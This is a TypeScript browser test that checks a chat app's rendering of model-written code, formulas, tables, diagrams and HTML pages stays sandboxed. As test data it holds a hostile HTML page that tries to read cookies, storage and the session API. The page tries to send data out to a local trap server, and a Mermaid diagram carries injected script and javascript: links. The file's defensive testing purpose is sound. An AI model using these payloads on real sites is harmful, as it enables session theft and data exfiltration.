// Thorough: run by the merge check, or by name.
/** Artifacts: code, formulas, tables, and pages that try to break out of the sandbox. */
import assert from 'node:assert/strict'
import { createServer } from 'node:net'
import { test } from 'node:test'
import { needs } from '../../needs.ts'
import { testServer } from '../../server.ts'
import { becomes, until } from '../../until.ts'
import { breaches } from '../axe.ts'
import { hasChromium, sharedBrowser, visit } from '../browser.ts'
import { signIn } from '../steps.ts'

const browser = sharedBrowser({ apart: true })
const fence = (language: string, text: string): string => `\`\`\`${language}\n${text}\n\`\`\``

/** Tries to use the session or to send out data, and records the results. */
const hostile = (elsewhere: string): string => `<!doctype html>
<link rel="stylesheet" href="${elsewhere}/css"><link rel="prefetch" href="${elsewhere}/prefetch">
<img src="${elsewhere}/img"><iframe src="${elsewhere}/frame"></iframe>
<form id="form" action="${elsewhere}/form" method="post"><input name="a"></form>
<ol id="told"></ol>
<button onclick="location = '${elsewhere}/location?secret=1'">leave</button>
<script>
const tell = (what) => { const row = document.createElement('li'); row.textContent = what; told.append(row) }
const attempt = async (what, how) => {
  const late = new Promise((_, no) => setTimeout(() => no(new DOMException('', 'Unanswered')), 1000))
  try { tell(what + ': ' + ((await Promise.race([how(), late])) ?? 'nothing')) } catch (error) { tell(what + ': refused, ' + error.name) }
}
const all = async () => {
  await attempt('cookie', () => document.cookie || 'read')
  await attempt('storage', () => localStorage.length)
  await attempt('parent', () => parent.document.title)
  await attempt('api', async () => (await fetch('/v1/me')).status)
  await attempt('elsewhere', async () => (await fetch('${elsewhere}/fetch?secret=1')).status)
  await attempt('beacon', () => { if (!navigator.sendBeacon('${elsewhere}/beacon', 'x')) throw new DOMException('', 'Refused') ; return 'taken' })
  await attempt('socket', () => new Promise((ok, no) => { const s = new WebSocket('${elsewhere.replace('http', 'ws')}/ws'); s.onopen = () => ok('open'); s.onerror = () => no(new DOMException('', 'Refused')) }))
  await attempt('worker', () => new Promise((ok, no) => { const w = new Worker('${elsewhere}/worker.js'); w.onerror = () => no(new DOMException('', 'Refused')); w.onmessage = ok }))
  await attempt('peer', () => new RTCPeerConnection())
  await attempt('module', () => import('${elsewhere}/module.js'))
  await attempt('popup', () => { if (open('${elsewhere}/popup') === null) throw new DOMException('', 'Refused') ; return 'opened' })
  await attempt('top', () => { top.location = '${elsewhere}/top' ; return 'set' })
  form.submit()
  tell('the end')
}
all()
</script>`

/** A diagram with functions, links, images, markup and looser settings. */
const diagram = (
  elsewhere: string,
): string => `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(${elsewhere}/css) }"}}%%
graph LR
  A["<img src=${elsewhere}/img onerror=parent.postMessage(1)>Paper"] --> B["Ink<script>parent.told = 1</script>"]
  click A "javascript:parent.told = 1"
  click B href "${elsewhere}/link" _top`

test(
  'code, formulas, diagrams and tables are rendered, and pages written by a model cannot break out of the sandbox',
  needs(hasChromium, 'Chromium'),
  async () => {
    /** Requests from the browser, by first line. Unused preconnects are ignored. */
    const caught: string[] = []
    const trap = createServer((socket) => {
      let said = ''
      socket.on('error', () => {})
      socket.on('data', (part: Buffer) => {
        said += part.toString()
        socket.destroy()
      })
      socket.on('close', () => caught.push(said.split('\r\n')[0]!))
    }).listen(0, '127.0.0.1')
    await new Promise((done) => trap.once('listening', done))
    const { port } = trap.address() as { port: number }
    try {
      await using server = await testServer({ environment: { UK_SIM: 'on' } })
      const alice = await server.person('Alice')
      const chat = (await alice.post('/chats', { title: 'Made', model: 'sim/script' })).body.data
      const text = [
        fence('ts', '// Adds.\nexport const add = (a: number) => `${a}`\nconst \u202ehidden = 1'),
        fence('py', `${'x = 1\n'.repeat(450)}last = 2`),
        'So $e^{i\\pi} + 1 = 0$ and not $\\href{https://evil.example}{x}$.',
        fence('csv', 'name,price\n"Ink, black",7\n\u{e0041},1'),
        fence('mermaid', diagram(`http://127.0.0.1:${port}`)),
        fence('mermaid', 'graph LR\n  A -->'),
        fence('html', hostile(`http://127.0.0.1:${port}`)),
      ].join('\n\n')
      await alice.post(`/chats/${chat.id}/messages`, { content: JSON.stringify({ steps: [{ text }] }) })
      // A streaming response re-renders at its end.
      await until(
        async () => (await alice.get(`/chats/${chat.id}`)).body.data.active_run_id,
        (run) => run === null,
      )
      await using visitor = await visit(browser(), server.origin)
      const { page } = visitor
      await signIn(page, alice)
      await page.goto(`/app/chats/${chat.id}`)
      const log = page.getByRole('log', { name: 'Messages' })
      const answer = log.getByRole('article', { name: /^sim\/script/ })
      // Code blocks are highlighted in any order.
      const coloured = (kind: string, hasText: string) => answer.locator(`.code-${kind}`, { hasText }).first()
      await coloured('comment', '// Adds.').waitFor({ state: 'attached' })
      await coloured('keyword', 'export').waitFor({ state: 'attached' })
      await answer.getByText('⟨U+202E⟩').first().waitFor({ state: 'attached' })
      await becomes(() => answer.locator('[style*=color]').count(), 0)
      // By keyboard: rows above may still grow and move a click target.
      const press = (name: string) => answer.getByRole('button', { name, exact: true })
      await press('Show all 451 lines').press('Enter')
      await answer.getByText('last').waitFor({ state: 'attached' })
      await answer.locator('math').first().waitFor({ state: 'attached' })
      await becomes(() => answer.locator('math a, math [href]').count(), 0)

      const pane = page.getByRole('complementary', { name: /^Artifact/ })
      await press('Open').last().press('Enter')
      await pane.getByRole('cell', { name: 'Ink, black' }).waitFor()
      await pane.getByRole('cell', { name: '⟨U+E0041⟩' }).waitFor()
      assert.deepEqual(await breaches(page), [])
      await page.setViewportSize({ width: 390, height: 800 })
      assert.equal((await pane.boundingBox())!.width, 390)
      await page.keyboard.press('Escape')
      await pane.waitFor({ state: 'detached' })
      await page.setViewportSize({ width: 1280, height: 800 })
      assert.deepEqual(visitor.wrongs, [])

      // From here on, blocked attempts log errors to the console.
      const asked: string[] = []
      page.on('request', (request) => asked.push(request.url()))
      await press('Draw').first().press('Enter')
      const drawn = page.frameLocator('iframe').locator('svg')
      await drawn.getByText('Paper').waitFor()
      await becomes(() => drawn.locator('a, script, img, [onerror]').count(), 0)
      await drawn.getByText('Ink', { exact: true }).click()
      // The diagram uses the page's theme and zooms by button and by key.
      const inside = page.frames().find((one) => one.url().endsWith('/app/frame/diagram'))!
      const scheme = () => inside.evaluate<string>('document.documentElement.style.colorScheme')
      assert.equal(await scheme(), 'light')
      const wide = async (): Promise<number> => (await drawn.boundingBox())!.width
      await pane.getByRole('button', { name: '100 %' }).press('Enter')
      const whole = await wide()
      await pane.getByRole('button', { name: 'Zoom in (+)' }).press('Enter')
      await until(wide, (now) => now > whole * 1.2)
      await page.frameLocator('iframe').locator('main').press('1')
      await until(wide, (now) => Math.abs(now - whole) < 1)
      assert.deepEqual(await breaches(inside), [])
      await page.emulateMedia({ colorScheme: 'dark' })
      await until(scheme, (now) => now === 'dark')
      await drawn.getByText('Paper').waitFor()
      assert.deepEqual(await breaches(inside), [])
      await page.emulateMedia({ colorScheme: 'light' })
      await press('Draw').last().press('Enter')
      const said = page.frameLocator('iframe')
      await said.getByText('This diagram can’t be drawn').waitFor()
      await said.getByText('A -->').last().waitFor()
      await said.getByText(/Parse error on line/).waitFor()
      // A diagram with an endless layout times out and shows its source; the page stays responsive.
      const endless = 'globalThis.mermaid = { initialize() {}, render() { for (;;); } }'
      await page.route(/mermaid/, (route) => route.fulfill({ contentType: 'text/javascript', body: endless }))
      await page.clock.install()
      await press('Draw').first().press('Enter')
      await pane.getByRole('toolbar', { name: 'Zoom' }).waitFor()
      await page.clock.fastForward(21_000)
      await pane.getByText('took longer than 20 seconds').waitFor()
      await pane.getByText('graph LR').first().waitFor()
      await press('Run').press('Enter')
      const frame = page.frameLocator('iframe')
      // Each attempt can take a second.
      await frame.getByText('the end').waitFor()
      const told = await frame.getByRole('listitem').allInnerTexts()
      // `sendBeacon` reports success although it is blocked; the server checks that nothing arrived.
      for (const what of 'cookie storage parent api elsewhere socket worker peer module popup top'.split(' '))
        assert.match(
          told.find((one) => one.startsWith(`${what}: `))!,
          /refused/,
          told.join('\n'),
        )
      // Navigating to another location is blocked.
      await frame.getByRole('button', { name: 'leave' }).click()
      await page.waitForTimeout(500)
      assert.deepEqual(caught, [])
      assert.ok(!asked.some((url) => url.includes('/v1/me')), asked.join())
      assert.equal(new URL(page.url()).pathname, `/app/chats/${chat.id}`)
      await page.getByRole('heading', { level: 1, name: 'Made' }).waitFor()
    } finally {
      trap.close()
    }
  },
)
